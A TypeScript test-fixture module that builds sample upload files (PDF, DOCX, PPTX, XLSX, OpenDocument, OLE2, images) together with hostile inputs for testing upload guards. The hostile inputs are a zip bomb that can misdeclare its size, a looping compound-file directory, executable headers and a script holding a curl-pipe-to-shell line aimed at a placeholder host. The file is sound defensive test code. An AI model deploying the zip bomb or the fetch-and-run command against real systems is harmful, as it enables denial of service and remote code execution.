/**
 * Factories for real uploaded files in tests: PDFs (Japanese too), DOCX, PPTX,
 * OpenDocument, legacy compound files, PNG, hostile zips and executables.
 * Test-only: they use dev dependencies.
 */
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { crc32, deflateRawSync, constants as zlibConstants } from "node:zlib";
import { createCanvas } from "@napi-rs/canvas";
import fontkit from "@pdf-lib/fontkit";
import { Document, Packer, Paragraph, TextRun } from "docx";
import JSZip from "jszip";
import {
  beginText,
  endText,
  moveText,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFString,
  rgb,
  StandardFonts,
  setFontAndSize,
  showText,
} from "pdf-lib";
import PptxGenJS from "pptxgenjs";
import yauzl from "yauzl";

/**
 * A Japanese PDF embeds this font, shipped beside the tests so they need no system font: a 38 KB subset
 * of Noto Sans CJK JP (SIL Open Font License, see test-fonts/OFL.txt) with ASCII, kana and the kanji the
 * tests draw. A test that draws other kanji gets no glyph for them: add them to the subset (the
 * pyftsubset command is in test-fonts/README.md).
 */
const JAPANESE_TEST_FONT = join(import.meta.dirname, "test-fonts", "NotoSansCJKjp-test-subset.otf");

/**
 * A PDF with one page per string (lines split on "\n"). `japanese` embeds a
 * subset of the test font so kana and kanji draw; `japanese: "font-not-embedded"`
 * instead names Kozuka Mincho without embedding it, with the UniJIS-UCS2-H
 * character map, as many Japanese business PDFs do (text only, it draws no glyphs).
 */
export async function makePdf(opts: {
  pages: string[];
  japanese?: boolean | "font-not-embedded";
}): Promise<Buffer> {
  if (opts.japanese === "font-not-embedded") return makePdfWithoutEmbeddedFont(opts.pages);
  const pdf = await PDFDocument.create();
  let font: Awaited<ReturnType<typeof pdf.embedFont>>;
  if (opts.japanese) {
    pdf.registerFontkit(fontkit);
    font = await pdf.embedFont(await readFile(JAPANESE_TEST_FONT), { subset: true });
  } else {
    font = await pdf.embedFont(StandardFonts.Helvetica);
  }
  for (const [index, text] of opts.pages.entries()) {
    const page = pdf.addPage([595, 842]); // A4 in points
    page.drawRectangle({ x: 0, y: 742, width: 595, height: 100, color: rgb(0.1, 0.3, 0.6) });
    let y = 700;
    for (const line of text.split("\n")) {
      page.drawText(line, { x: 50, y, size: 14, font, color: rgb(0, 0, 0) });
      y -= 20;
    }
    page.drawText(String(index + 1), { x: 290, y: 30, size: 10, font });
  }
  return Buffer.from(await pdf.save());
}

async function makePdfWithoutEmbeddedFont(pages: string[]): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const context = pdf.context;
  const fontName = "KozMinPr6N-Regular";
  const descriptor = context.register(
    context.obj({
      Type: "FontDescriptor",
      FontName: fontName,
      Flags: 4,
      FontBBox: [-437, -340, 1147, 1317],
      ItalicAngle: 0,
      Ascent: 1317,
      Descent: -349,
      CapHeight: 742,
      StemV: 80,
    }),
  );
  const cidFont = context.register(
    context.obj({
      Type: "Font",
      Subtype: "CIDFontType0",
      BaseFont: fontName,
      CIDSystemInfo: { Registry: PDFString.of("Adobe"), Ordering: PDFString.of("Japan1"), Supplement: 6 },
      FontDescriptor: descriptor,
      DW: 1000,
    }),
  );
  const font = context.register(
    context.obj({
      Type: "Font",
      Subtype: "Type0",
      BaseFont: fontName,
      Encoding: "UniJIS-UCS2-H",
      DescendantFonts: [cidFont],
    }),
  );
  for (const text of pages) {
    const page = pdf.addPage([595, 842]);
    page.node.setFontDictionary(PDFName.of("F1"), font);
    let y = 700;
    for (const line of text.split("\n")) {
      // UniJIS-UCS2-H: each character is its UTF-16 code unit, big-endian
      const hex = [...line].map((c) => (c.codePointAt(0) ?? 0).toString(16).padStart(4, "0")).join("");
      page.pushOperators(
        beginText(),
        setFontAndSize("F1", 14),
        moveText(50, y),
        showText(PDFHexString.of(hex)),
        endText(),
      );
      y -= 20;
    }
  }
  return Buffer.from(await pdf.save());
}

/** A DOCX with one paragraph per string; `pageBreaks` starts each on a page of its own. */
export async function makeDocx(paragraphs: string[], opts: { pageBreaks?: boolean } = {}): Promise<Buffer> {
  const doc = new Document({
    sections: [
      {
        children: paragraphs.map(
          (p, i) =>
            new Paragraph({ children: [new TextRun(p)], pageBreakBefore: opts.pageBreaks === true && i > 0 }),
        ),
      },
    ],
  });
  return Packer.toBuffer(doc);
}

/** A PPTX with one slide per entry, speaker notes where given; `thumbnailWidth` adds docProps/thumbnail.jpeg. */
export async function makePptx(
  slides: Array<{ text: string; notes?: string }>,
  opts: { thumbnailWidth?: number } = {},
): Promise<Buffer> {
  const pptx = new PptxGenJS();
  for (const { text, notes } of slides) {
    const slide = pptx.addSlide();
    slide.addText(text, { x: 0.5, y: 0.5, w: 9, h: 1.5, fontSize: 24 });
    if (notes) slide.addNotes(notes);
  }
  const data = Buffer.from((await pptx.write({ outputType: "nodebuffer" })) as Uint8Array);
  if (!opts.thumbnailWidth) return data;
  const entries = await readZipEntries(data);
  entries.push({
    name: "docProps/thumbnail.jpeg",
    data: makeJpeg(opts.thumbnailWidth, opts.thumbnailWidth * 0.75),
  });
  return makeZip(entries);
}

const escapeXml = (text: string) =>
  text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");

/** A minimal XLSX: one sheet per entry, its cells down column A as shared strings. */
export function makeXlsx(sheets: Array<{ name: string; cells: string[] }>): Buffer {
  const ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  const rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const strings = sheets.flatMap((sheet) => sheet.cells);
  let next = 0;
  const sheetParts = sheets.map((sheet, i) => ({
    name: `xl/worksheets/sheet${i + 1}.xml`,
    data: `<?xml version="1.0" encoding="UTF-8"?><worksheet ${ns}><sheetData>${sheet.cells
      .map((_, row) => `<row r="${row + 1}"><c r="A${row + 1}" t="s"><v>${next++}</v></c></row>`)
      .join("")}</sheetData></worksheet>`,
  }));
  return makeZip([
    {
      name: "[Content_Types].xml",
      data: `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
    },
    {
      name: "_rels/.rels",
      data: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    },
    {
      name: "xl/workbook.xml",
      data: `<?xml version="1.0" encoding="UTF-8"?><workbook ${ns} xmlns:r="${rel}"><sheets>${sheets
        .map((sheet, i) => `<sheet name="${escapeXml(sheet.name)}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`)
        .join("")}</sheets></workbook>`,
    },
    {
      name: "xl/_rels/workbook.xml.rels",
      data: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${sheets
        .map(
          (_, i) =>
            `<Relationship Id="rId${i + 1}" Type="${rel}/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`,
        )
        .join("")}</Relationships>`,
    },
    ...sheetParts,
    {
      name: "xl/sharedStrings.xml",
      data: `<?xml version="1.0" encoding="UTF-8"?><sst ${ns} count="${strings.length}" uniqueCount="${strings.length}">${strings
        .map((text) => `<si><t xml:space="preserve">${escapeXml(text)}</t></si>`)
        .join("")}</sst>`,
    },
  ]);
}

function drawSample(width: number, height: number) {
  const canvas = createCanvas(width, height);
  const context = canvas.getContext("2d");
  const gradient = context.createLinearGradient(0, 0, width, height);
  gradient.addColorStop(0, "#1f4e8c");
  gradient.addColorStop(1, "#f2a900");
  context.fillStyle = gradient;
  context.fillRect(0, 0, width, height);
  return canvas;
}

/** A real PNG image of this size. */
export function makePng(width: number, height: number): Buffer {
  return drawSample(width, height).encodeSync("png");
}

export function makeJpeg(width: number, height: number): Buffer {
  return drawSample(Math.round(width), Math.round(height)).encodeSync("jpeg", 85);
}

export function makeWebp(width: number, height: number): Buffer {
  return drawSample(width, height).encodeSync("webp", 80);
}

/** A 1×1 GIF, byte by byte. */
export function makeGif(): Buffer {
  return Buffer.from("R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==", "base64");
}

/** The head of an MP4 file: an `ftyp` box (brand isom) and an empty `free` box. */
export function makeMp4(): Buffer {
  const ftyp = Buffer.concat([
    Buffer.from([0, 0, 0, 0x18]),
    Buffer.from("ftypisom\0\0\x02\0isomiso2", "latin1"),
  ]);
  return Buffer.concat([ftyp, Buffer.from([0, 0, 0, 8]), Buffer.from("free", "latin1")]);
}

export interface ZipEntryInput {
  name: string;
  data: Buffer | string;
}

interface RawZipEntry {
  name: string;
  method: 0 | 8;
  compressed: Buffer;
  crc: number;
  /** Written to the headers; a zip bomb may lie here. */
  declaredSize: number;
}

/** A zip archive of these entries, deflated. */
export function makeZip(entries: ZipEntryInput[]): Buffer {
  return writeZip(
    entries.map(({ name, data }) => {
      const bytes = typeof data === "string" ? Buffer.from(data) : data;
      return {
        name,
        method: 8,
        compressed: deflateRawSync(bytes),
        crc: crc32(bytes),
        declaredSize: bytes.length,
      };
    }),
  );
}

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;

/**
 * A DOCX-shaped zip ([Content_Types].xml, word/document.xml) whose document
 * inflates to `inflatedMb` MB of zero bytes (default 300) while the file stays
 * near 1 KB per MB. `lieAboutSize` declares the part as 1 KB, so only a guard
 * that counts the bytes it really inflates can stop it.
 */
export function makeZipBomb(opts: { inflatedMb?: number; lieAboutSize?: boolean } = {}): Buffer {
  const megabytes = opts.inflatedMb ?? 300;
  const zeros = Buffer.alloc(1024 * 1024);
  // after a full flush no match reaches back, so one deflated megabyte can be repeated; 03 00 ends the stream
  const block = deflateRawSync(zeros, { level: 9, finishFlush: zlibConstants.Z_FULL_FLUSH });
  const compressed = Buffer.concat([
    ...Array.from({ length: megabytes }, () => block),
    Buffer.from([0x03, 0x00]),
  ]);
  let crc = 0;
  for (let i = 0; i < megabytes; i += 1) crc = crc32(zeros, crc);
  const contentTypes = Buffer.from(CONTENT_TYPES);
  return writeZip([
    {
      name: "[Content_Types].xml",
      method: 8,
      compressed: deflateRawSync(contentTypes),
      crc: crc32(contentTypes),
      declaredSize: contentTypes.length,
    },
    {
      name: "word/document.xml",
      method: 8,
      compressed,
      crc,
      declaredSize: opts.lieAboutSize ? 1024 : megabytes * zeros.length,
    },
  ]);
}

/** A DOCX-shaped zip with `count` tiny entries (the entry-count guard). */
export function makeZipWithManyEntries(count: number): Buffer {
  const entries: ZipEntryInput[] = [
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "word/document.xml", data: "<w:document/>" },
  ];
  for (let i = entries.length; i < count; i += 1) entries.push({ name: `word/media/part${i}.xml`, data: "" });
  return makeZip(entries);
}

function writeZip(entries: RawZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, "utf8");
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(entry.method, 8);
    local.writeUInt16LE(0, 10); // time
    local.writeUInt16LE(0x21, 12); // 1980-01-01
    local.writeUInt32LE(entry.crc >>> 0, 14);
    local.writeUInt32LE(entry.compressed.length, 18);
    local.writeUInt32LE(entry.declaredSize, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4); // made by
    local.copy(central, 6, 4, 30); // version needed … name length, extra length
    central.writeUInt16LE(0, 32); // comment length
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, entry.compressed);
    centrals.push(central, name);
    offset += local.length + name.length + entry.compressed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

async function readZipEntries(zipData: Buffer): Promise<ZipEntryInput[]> {
  const zip = await yauzl.fromBufferPromise(zipData, { lazyEntries: true });
  const entries: ZipEntryInput[] = [];
  for await (const entry of zip.eachEntry()) {
    if (entry.fileName.endsWith("/")) continue;
    const chunks: Buffer[] = [];
    for await (const chunk of await zip.openReadStreamPromise(entry)) chunks.push(chunk as Buffer);
    entries.push({ name: entry.fileName, data: Buffer.concat(chunks) });
  }
  return entries;
}

const ODF_NAMESPACES = [
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"',
  'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"',
  'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"',
  'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"',
  'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0"',
  'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"',
].join(" ");

const ODF_BODIES = { odt: "text", ods: "spreadsheet", odp: "presentation" } as const;

/**
 * An OpenDocument package whose office:body holds `body` (XML). As the standard
 * wants, `mimetype` comes first and stored, unless `mimetypeFirst: false`, which
 * puts it last and deflated. `encrypted` declares encryption in the manifest.
 */
export async function makeOpenDocument(
  kind: keyof typeof ODF_BODIES,
  body: string,
  opts: { mimetypeFirst?: boolean; encrypted?: boolean; thumbnail?: Buffer } = {},
): Promise<Buffer> {
  const mimetype = `application/vnd.oasis.opendocument.${ODF_BODIES[kind]}`;
  const encryption = opts.encrypted
    ? '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"/>'
    : "";
  const zip = new JSZip();
  const first = opts.mimetypeFirst ?? true;
  if (first) zip.file("mimetype", mimetype, { compression: "STORE" });
  zip.file(
    "content.xml",
    `<?xml version="1.0" encoding="UTF-8"?><office:document-content ${ODF_NAMESPACES} office:version="1.3"><office:automatic-styles/><office:body><office:${ODF_BODIES[kind]}>${body}</office:${ODF_BODIES[kind]}></office:body></office:document-content>`,
  );
  zip.file(
    "META-INF/manifest.xml",
    `<?xml version="1.0" encoding="UTF-8"?><manifest:manifest ${ODF_NAMESPACES} manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="${mimetype}"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">${encryption}</manifest:file-entry></manifest:manifest>`,
  );
  if (opts.thumbnail) zip.file("Thumbnails/thumbnail.png", opts.thumbnail);
  if (!first) zip.file("mimetype", mimetype);
  return zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE" });
}

const odfParagraph = (line: string) => `<text:p>${escapeXml(line)}</text:p>`;

/** An ODT with one paragraph per string. */
export function makeOdt(paragraphs: string[]): Promise<Buffer> {
  return makeOpenDocument("odt", paragraphs.map(odfParagraph).join(""));
}

/** An ODP with one slide (draw:page) per entry, speaker notes where given. */
export function makeOdp(slides: Array<{ text: string; notes?: string }>): Promise<Buffer> {
  const frame = (text: string) =>
    `<draw:frame><draw:text-box>${text.split("\n").map(odfParagraph).join("")}</draw:text-box></draw:frame>`;
  const pages = slides.map(
    ({ text, notes }, i) =>
      `<draw:page draw:name="page${i + 1}">${frame(text)}${
        notes === undefined
          ? ""
          : `<presentation:notes><draw:page-thumbnail/>${frame(notes)}</presentation:notes>`
      }</draw:page>`,
  );
  return makeOpenDocument("odp", pages.join(""));
}

/** An ODS: one table per sheet, its cells down the first column. */
export function makeOds(sheets: Array<{ name: string; cells: string[] }>): Promise<Buffer> {
  const tables = sheets.map(
    ({ name, cells }) =>
      `<table:table table:name="${escapeXml(name)}"><table:table-column/>${cells
        .map(
          (cell) =>
            `<table:table-row><table:table-cell office:value-type="string">${odfParagraph(cell)}</table:table-cell></table:table-row>`,
        )
        .join("")}</table:table>`,
  );
  return makeOpenDocument("ods", tables.join(""));
}

const CFB_SECTOR = 512;
const CFB_FREE = 0xffffffff;
const CFB_END_OF_CHAIN = 0xfffffffe;
const CFB_FAT_SECTOR = 0xfffffffd;
const CFB_DIFAT_SECTOR = 0xfffffffc;

/**
 * A version 3 OLE2 compound file (512-byte sectors) whose root holds these
 * streams, each `streamBytes` long (default 4096, the smallest kept out of the
 * mini stream). Layout: FAT, DIFAT, streams, then the directory, so with
 * streams large enough to need over 109 FAT sectors the directory is found
 * through the DIFAT chain. `directoryLoops` links the directory's last sector
 * back to its first.
 */
export function makeCompoundFile(
  streamNames: string[],
  opts: { streamBytes?: number; directoryLoops?: boolean } = {},
): Buffer {
  const streamBytes = opts.streamBytes ?? 4096;
  const perFat = CFB_SECTOR / 4;
  const perDifat = perFat - 1;
  const streamSectors = Math.ceil(streamBytes / CFB_SECTOR);
  const directorySectors = Math.ceil((streamNames.length + 1) / (CFB_SECTOR / 128));
  const dataSectors = streamNames.length * streamSectors + directorySectors;
  let fatSectors = 1;
  let difatSectors = 0;
  while (fatSectors * perFat < fatSectors + difatSectors + dataSectors) {
    fatSectors += 1;
    difatSectors = Math.max(0, Math.ceil((fatSectors - 109) / perDifat));
  }
  const total = fatSectors + difatSectors + dataSectors;
  const fat = new Array<number>(fatSectors * perFat).fill(CFB_FREE);
  for (let i = 0; i < fatSectors; i += 1) fat[i] = CFB_FAT_SECTOR;
  for (let i = 0; i < difatSectors; i += 1) fat[fatSectors + i] = CFB_DIFAT_SECTOR;
  const chain = (start: number, length: number) => {
    for (let i = 0; i < length; i += 1) fat[start + i] = i === length - 1 ? CFB_END_OF_CHAIN : start + i + 1;
  };
  const streamStarts = streamNames.map((_, i) => fatSectors + difatSectors + i * streamSectors);
  for (const start of streamStarts) chain(start, streamSectors);
  const firstDirectory = total - directorySectors;
  chain(firstDirectory, directorySectors);
  if (opts.directoryLoops) fat[total - 1] = firstDirectory;

  const file = Buffer.alloc((total + 1) * CFB_SECTOR);
  const header = file.subarray(0, CFB_SECTOR);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x3e, 0x18); // minor version
  header.writeUInt16LE(3, 0x1a); // major version
  header.writeUInt16LE(0xfffe, 0x1c); // little-endian
  header.writeUInt16LE(9, 0x1e); // 512-byte sectors
  header.writeUInt16LE(6, 0x20); // 64-byte mini sectors
  header.writeUInt32LE(fatSectors, 0x2c);
  header.writeUInt32LE(firstDirectory, 0x30);
  header.writeUInt32LE(4096, 0x38); // mini stream cutoff
  header.writeUInt32LE(CFB_END_OF_CHAIN, 0x3c); // no mini FAT
  header.writeUInt32LE(difatSectors > 0 ? fatSectors : CFB_END_OF_CHAIN, 0x44);
  header.writeUInt32LE(difatSectors, 0x48);
  const sector = (n: number) => file.subarray((n + 1) * CFB_SECTOR, (n + 2) * CFB_SECTOR);
  for (let i = 0; i < 109; i += 1) header.writeUInt32LE(i < fatSectors ? i : CFB_FREE, 0x4c + 4 * i);
  for (let d = 0; d < difatSectors; d += 1) {
    const difat = sector(fatSectors + d);
    for (let i = 0; i < perDifat; i += 1) {
      const fatIndex = 109 + d * perDifat + i;
      difat.writeUInt32LE(fatIndex < fatSectors ? fatIndex : CFB_FREE, 4 * i);
    }
    difat.writeUInt32LE(d === difatSectors - 1 ? CFB_END_OF_CHAIN : fatSectors + d + 1, CFB_SECTOR - 4);
  }
  for (const [i, next] of fat.entries()) file.writeUInt32LE(next, CFB_SECTOR + 4 * i);
  for (const [i, start] of streamStarts.entries()) {
    file.fill(0x20 + (i % 90), (start + 1) * CFB_SECTOR, (start + 1 + streamSectors) * CFB_SECTOR);
  }

  const directory = file.subarray((firstDirectory + 1) * CFB_SECTOR);
  const writeEntry = (
    index: number,
    entry: { name: string; type: number; right: number; child: number; start: number; size: number },
  ) => {
    const at = directory.subarray(index * 128, (index + 1) * 128);
    const name = Buffer.from(`${entry.name}\0`, "utf16le");
    name.copy(at, 0, 0, Math.min(name.length, 64));
    at.writeUInt16LE(Math.min(name.length, 64), 0x40);
    at[0x42] = entry.type;
    at[0x43] = 1; // black
    at.writeUInt32LE(CFB_FREE, 0x44); // no left sibling
    at.writeUInt32LE(entry.right, 0x48);
    at.writeUInt32LE(entry.child, 0x4c);
    at.writeUInt32LE(entry.start, 0x74);
    at.writeUInt32LE(entry.size, 0x78);
  };
  // the root's children as a chain of right siblings: a valid, if unbalanced, tree
  const sibling = (i: number) => (i < streamNames.length ? i + 1 : CFB_FREE);
  writeEntry(0, {
    name: "Root Entry",
    type: 5,
    right: CFB_FREE,
    child: streamNames.length > 0 ? 1 : CFB_FREE,
    start: CFB_END_OF_CHAIN,
    size: 0,
  });
  for (const [i, name] of streamNames.entries()) {
    writeEntry(i + 1, {
      name,
      type: 2,
      right: sibling(i + 1),
      child: CFB_FREE,
      start: streamStarts[i] ?? CFB_END_OF_CHAIN,
      size: streamBytes,
    });
  }
  for (let i = streamNames.length + 1; i < directorySectors * (CFB_SECTOR / 128); i += 1) {
    for (const field of [0x44, 0x48, 0x4c]) directory.writeUInt32LE(CFB_FREE, i * 128 + field);
  }
  return file;
}

/** The first `length` bytes of a file, as an upload cut short would leave it. */
export function truncate(data: Buffer, length: number): Buffer {
  return Buffer.from(data.subarray(0, length));
}

/** The first bytes of a real executable of this kind, padded to look like a file. */
export function makeExecutable(kind: "elf" | "pe" | "macho" | "script"): Buffer {
  const heads = {
    elf: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]),
    pe: Buffer.concat([
      Buffer.from("MZ\x90\x00", "latin1"),
      Buffer.alloc(60),
      Buffer.from("PE\0\0", "latin1"),
    ]),
    macho: Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]),
    script: Buffer.from("#!/bin/sh\ncurl https://example.invalid/x | sh\n"),
  };
  return Buffer.concat([heads[kind], kind === "script" ? Buffer.alloc(0) : Buffer.alloc(512, 0x90)]);
}

/** A temporary directory for a test file's uploads; `write` returns the path. */
export async function makeTempDir(): Promise<{
  dir: string;
  write(name: string, data: Buffer | string): Promise<string>;
  remove(): Promise<void>;
}> {
  const dir = await mkdtemp(join(tmpdir(), "pitchside-files-"));
  return {
    dir,
    async write(name, data) {
      const path = join(dir, name);
      await writeFile(path, data);
      return path;
    },
    remove: () => rm(dir, { recursive: true, force: true }),
  };
}
